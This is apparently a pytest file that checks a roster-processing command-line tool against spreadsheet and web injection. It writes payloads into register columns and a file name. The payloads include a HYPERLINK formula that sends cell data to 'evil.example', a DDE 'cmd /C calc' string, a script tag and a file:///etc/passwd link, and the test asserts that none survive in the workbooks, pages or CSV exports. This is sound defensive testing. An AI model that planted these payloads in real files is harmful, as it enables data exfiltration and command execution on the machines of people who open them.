"""What rosters hold is text in every output: no formula, no link, no markup, whatever it looks like."""

from __future__ import annotations

import csv
import re
from collections.abc import Callable
from pathlib import Path
from zipfile import ZipFile

import pytest

from flows.cli import run_command
from tests.flows.desk import MONTH, PACK, REGISTER, RESIDENTS, Desk

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1",
    "http://evil.example/", "<script>alert(1)</script>", "<r><f>1+1</f></r>", "file:///etc/passwd", "{{7*7}}", "_x003D_1+1",
]  # fmt: skip


def spoil_column(header: str) -> Callable[[Path], None]:
    """Put a payload into every cell of a column."""

    def change(file: Path) -> None:
        with file.open(encoding="utf-8", newline="") as handle:
            rows = list(csv.reader(handle))
        place = rows[0].index(header)
        for number, row in enumerate(rows[1:]):
            row[place] = PAYLOADS[number % len(PAYLOADS)]
        with file.open("w", encoding="utf-8", newline="") as handle:
            csv.writer(handle).writerows(rows)

    return change


@pytest.fixture
def spoilt(desk: Desk) -> Desk:
    spoil_column("村(社区)")(desk.raw / REGISTER)
    spoil_column("地址")(desk.raw / REGISTER)
    spoil_column("联系电话")(desk.raw / REGISTER)
    spoil_column("凭证号")(desk.raw / RESIDENTS)
    (desk.raw / REGISTER).rename(desk.raw / "=HYPERLINK(1)户籍人口.csv")
    return desk


def test_nothing_that_a_roster_holds_becomes_a_formula_or_link(spoilt: Desk) -> None:
    places = ["--raw", str(spoilt.raw), "--out", str(spoilt.out), "--quiet"]
    assert run_command(["run", "--pack", PACK, "--month", MONTH, *places]) == 0
    (run,) = spoilt.published()
    seen = ""
    for path in sorted((run / "workbooks").rglob("*.xlsx")):
        with ZipFile(path) as book:
            for name in book.namelist():
                part = book.read(name).decode("utf-8", "replace")
                if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                    seen += part
                    formulas = re.findall(r"<f>(.*?)</f>", part)
                    assert not [
                        formula for formula in formulas if "evil" in formula or "cmd" in formula or "1+1" in formula
                    ]
                    assert "<hyperlink" not in part or "evil" not in part
                if name.endswith(".rels"):
                    assert "evil" not in part
                    assert "passwd" not in part
    assert "HYPERLINK" in seen
    for page in run.rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        assert "<script>alert" not in text
        assert 'href="http://evil' not in text
    made = spoilt.out / "made"
    assert run_command(["export", "--results", str(spoilt.out), "--out", str(made)]) == 0
    tables = list(made.rglob("*.csv"))
    assert tables
    for table in tables:
        for row in csv.reader(table.read_text(encoding="utf-8-sig").splitlines()):
            assert not [cell for cell in row if cell.lstrip()[:1] in {"=", "+", "@"} and len(cell) > 1]
